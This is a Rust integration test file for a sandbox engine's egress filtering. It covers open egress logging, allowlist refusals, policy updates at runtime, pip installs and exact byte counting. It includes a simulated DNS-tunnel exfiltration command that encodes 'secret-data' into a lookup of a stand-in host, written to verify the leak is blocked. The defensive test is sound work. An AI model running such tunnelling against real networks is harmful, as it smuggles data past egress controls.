//! Egress: open egress reaches names over HTTP and HTTPS and logs the bytes, an allowlist admits
//! its names and refuses the rest with a reason (and changes at runtime), and pip installs a package
//! by name from the test index.

use serde_json::json;

use crate::common::*;
use crate::require_sandboxes;

use super::{FETCH, create_with, engine_for, log, put_ca, py, pypi_only};

#[tokio::test]
async fn open_egress_reaches_names_over_http_and_https_and_logs_the_bytes() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let engine = engine_for(&net, |_| {}).await;
    let client = engine.mcp().await;
    let id = create(&client).await;
    let info = ok(&client, "sandbox_info", json!({"sandbox_id": id})).await;
    assert_eq!(
        info["network"],
        json!({"allow_out": [], "deny_out": [], "default": "open", "mode": "filtered"})
    );
    put_ca(&client, &id, &net).await;
    let out = py(
        &client,
        &id,
        &format!(
            "{FETCH}\nprint(fetch('http://pypi.test/'))\nprint(len(fetch('http://api.example.test/bytes/100000')))"
        ),
    )
    .await;
    assert!(out.contains("200 hello from pypi.test"), "{out}");
    assert!(
        out.contains("100004"),
        "status, space and 100 000 bytes: {out}"
    );
    let https = sh(
        &client,
        &id,
        "curl -sS --cacert /root/ca.pem https://other.test/ && echo",
    )
    .await;
    assert_eq!(https, "hello from other.test\n");
    // A connection is logged when the engine's relay has seen both sides close, which can be a
    // moment after curl has exited: wait for it (CI once read the log in between).
    let mut entries = log(&client, &id, json!({})).await;
    let begun = std::time::Instant::now();
    while !entries
        .iter()
        .any(|e| e["host"] == "other.test" && e["protocol"] == "tls")
        && begun.elapsed() < std::time::Duration::from_secs(5)
    {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        entries = log(&client, &id, json!({})).await;
    }
    let find = |host: &str, protocol: &str| {
        entries
            .iter()
            .find(|e| e["host"] == host && e["protocol"] == protocol)
            .unwrap_or_else(|| panic!("no {protocol} entry for {host}: {entries:#?}"))
            .clone()
    };
    let big = find("api.example.test", "http");
    assert_eq!(big["verdict"], "allowed");
    assert_eq!(big["rule"], "default open");
    assert_eq!(big["port"], 80);
    assert_eq!(big["address"], net.net_ip.to_string());
    assert!(big["bytes_received"].as_u64().unwrap() > 100_000, "{big}");
    assert!(big["bytes_sent"].as_u64().unwrap() > 20, "{big}");
    let tls = find("other.test", "tls");
    assert_eq!(
        (tls["verdict"].clone(), tls["port"].clone()),
        (json!("allowed"), json!(443))
    );
    assert_eq!(find("pypi.test", "dns")["verdict"], "allowed");
    // The log is the engine's: readable while the sandbox is frozen.
    ok(&client, "sandbox_pause", json!({"sandbox_id": id})).await;
    assert_eq!(log(&client, &id, json!({})).await.len(), entries.len());
}

#[tokio::test]
async fn an_allowlist_admits_its_names_refuses_the_rest_with_a_reason_and_changes_at_runtime() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let engine = engine_for(&net, |_| {}).await;
    let client = engine.mcp().await;
    let created = ok(&client, "sandbox_create", json!({"network": pypi_only()})).await;
    let id = created["id"].as_str().unwrap().to_string();
    assert_eq!(created["network"]["allow_out"], json!(["pypi.test"]));
    let ip = net.net_ip;
    // First, before the sandbox resolved anything: by address, naming an allowed host. The engine
    // connects where its own resolution of that name leads.
    let out = py(
        &client,
        &id,
        &format!("{FETCH}\nprint('N', fetch('http://{ip}/', host='pypi.test'))"),
    )
    .await;
    assert!(out.contains("N 200 hello from pypi.test"), "{out}");
    let script = format!(
        "{FETCH}\nprint('A', fetch('http://pypi.test/'))\nprint('B', fetch('http://other.test/'))\nprint('C', fetch('http://{ip}/', host='other.test'))"
    );
    let out = py(&client, &id, &script).await;
    assert!(out.contains("A 200 hello from pypi.test"), "{out}");
    // The name outside the allowlist does not even resolve.
    assert!(out.contains("B ERROR"), "{out}");
    // By address, the HTTP client is told which rule refused it and how to change it.
    assert!(out.contains("C 403"), "{out}");
    assert!(
        out.contains("deny_out 0.0.0.0/0") && out.contains("sandbox_update"),
        "{out}"
    );

    // TLS is judged by its server name: the allowed one passes, another one at the same address
    // is reset.
    put_ca(&client, &id, &net).await;
    let tls = sh(
        &client,
        &id,
        &format!("curl -sS --cacert ca.pem https://pypi.test/; echo; curl -sS --cacert ca.pem --resolve other.test:443:{ip} https://other.test/ 2>&1; echo rc=$?"),
    )
    .await;
    assert!(tls.starts_with("hello from pypi.test\n"), "{tls}");
    assert!(
        !tls.contains("hello from other.test") && !tls.ends_with("rc=0\n"),
        "{tls}"
    );
    // Any port: a protocol that names no host is judged by the name the sandbox resolved.
    let echo = py(
        &client,
        &id,
        "import socket\ns = socket.create_connection(('pypi.test', 7), timeout=5)\ns.sendall(b'ping')\nprint(s.recv(4))",
    )
    .await;
    assert_eq!(echo, "b'ping'\n");

    // DNS cannot carry data out: a refused name never reaches any resolver.
    let tunnel = exec(&client, &id, "getent hosts c2VjcmV0LWRhdGE.tunnel.test").await;
    assert_ne!(tunnel["exit_code"], 0, "{tunnel}");
    assert!(
        !net.dns_queries()
            .iter()
            .any(|q| q.contains("c2vjcmv0lwrhdge")),
        "the tunnelled name reached the upstream resolver: {:?}",
        net.dns_queries()
    );

    let blocked = log(&client, &id, json!({"verdict": "blocked"})).await;
    assert!(
        blocked
            .iter()
            .any(|e| e["protocol"] == "http" && e["host"] == "other.test"),
        "{blocked:#?}"
    );
    assert!(blocked.iter().all(|e| e["verdict"] == "blocked"));
    assert!(
        blocked
            .iter()
            .any(|e| e["protocol"] == "dns" && e["host"] == "c2vjcmv0lwrhdge.tunnel.test"),
        "{blocked:#?}"
    );

    // A changed policy applies to the next connection, without a restart.
    let updated = ok(
        &client,
        "sandbox_update",
        json!({"sandbox_id": id, "network": {"allow_out": ["pypi.test", "*.test"], "deny_out": ["0.0.0.0/0"]}}),
    )
    .await;
    assert_eq!(
        updated["network"]["allow_out"],
        json!(["pypi.test", "*.test"])
    );
    let out = py(
        &client,
        &id,
        &format!("{FETCH}\nprint('B', fetch('http://other.test/'))"),
    )
    .await;
    assert!(out.contains("B 200 hello from other.test"), "{out}");
    // The rules survive an engine restart with the sandbox.
    let data = engine.stop().await;
    let config = {
        let mut c = TestEngine::config_for(data.path());
        c.network.dns_upstream = vec![net.dns];
        c.network.egress_allow = vec![format!("{}/32", net.net_ip)];
        c
    };
    let engine = TestEngine::start_on(data, config).await;
    let client = engine.mcp().await;
    let info = ok(&client, "sandbox_info", json!({"sandbox_id": id})).await;
    assert_eq!(info["network"]["allow_out"], json!(["pypi.test", "*.test"]));
    let out = py(
        &client,
        &id,
        &format!("{FETCH}\nprint('B', fetch('http://other.test/'))"),
    )
    .await;
    assert!(
        out.contains("B 200 hello from other.test"),
        "after a restart: {out}"
    );
}

#[tokio::test]
async fn pip_installs_a_package_by_name_from_the_test_index() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let engine = engine_for(&net, |_| {}).await;
    let client = engine.mcp().await;
    let id = create_with(&client, pypi_only()).await;
    let r = ok(
        &client,
        "sandbox_exec",
        json!({"sandbox_id": id, "timeout_ms": 120000, "command":
            "python3 -m pip install --break-system-packages --no-cache-dir --index-url http://pypi.test/simple/ --trusted-host pypi.test sandboxtestpkg && python3 -c 'import sandboxtestpkg; print(sandboxtestpkg.VALUE)'"}),
    )
    .await;
    assert_eq!(r["exit_code"], 0, "{r}");
    assert!(r["stdout"].as_str().unwrap().ends_with("42\n"), "{r}");
}

/// Large transfers leave the relay's copy buffers for a spliced pipe (zero-copy) both ways: the
/// bytes must still arrive whole, and the log must count exactly what crossed, as curl measured
/// it on the sandbox's side (headers included).
#[tokio::test]
async fn large_transfers_both_ways_are_counted_exactly() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let engine = engine_for(&net, |_| {}).await;
    let client = engine.mcp().await;
    let id = create(&client).await;
    let format = "%{size_request} %{size_upload} %{size_header} %{size_download}";
    let measured = sh(
        &client,
        &id,
        &format!(
            "head -c 30000000 /dev/zero > /tmp/up && curl -sS -o /tmp/down -w '{format}' \
             --data-binary @/tmp/up -H 'content-type: application/octet-stream' \
             http://api.example.test/upload && echo && \
             curl -sS -o /tmp/down2 -w '{format}' http://other.test/bytes/40000000 && echo && \
             wc -c < /tmp/down2 && sha256sum < /tmp/down2"
        ),
    )
    .await;
    let lines: Vec<&str> = measured.lines().collect();
    assert!(lines.len() >= 4, "{measured}");
    let numbers =
        |l: &str| -> Vec<u64> { l.split_whitespace().map(|n| n.parse().unwrap()).collect() };
    let (up, down) = (numbers(lines[0]), numbers(lines[1]));
    assert_eq!(up[1], 30_000_000, "{measured}");
    assert_eq!(down[3], 40_000_000, "{measured}");
    assert_eq!(lines[2].trim(), "40000000");
    // 40 MB of zeros, whole and in order.
    let zeros = <sha2::Sha256 as sha2::Digest>::digest(vec![0u8; 40_000_000]);
    assert!(
        lines[3].starts_with(&crate::testnet::hex(&zeros)),
        "{measured}"
    );
    let mut entries = log(&client, &id, json!({})).await;
    let begun = std::time::Instant::now();
    while entries.iter().filter(|e| e["protocol"] == "http").count() < 2
        && begun.elapsed() < std::time::Duration::from_secs(10)
    {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        entries = log(&client, &id, json!({})).await;
    }
    let row = |host: &str| {
        entries
            .iter()
            .find(|e| e["host"] == host && e["protocol"] == "http")
            .unwrap_or_else(|| panic!("no entry for {host}: {entries:#?}"))
            .clone()
    };
    let upload = row("api.example.test");
    assert_eq!(
        upload["bytes_sent"],
        up[0] + up[1],
        "{upload} vs curl {up:?}"
    );
    assert_eq!(
        upload["bytes_received"],
        up[2] + up[3],
        "{upload} vs curl {up:?}"
    );
    let download = row("other.test");
    assert_eq!(
        download["bytes_sent"],
        down[0] + down[1],
        "{download} vs curl {down:?}"
    );
    assert_eq!(
        download["bytes_received"],
        down[2] + down[3],
        "{download} vs curl {down:?}"
    );
}
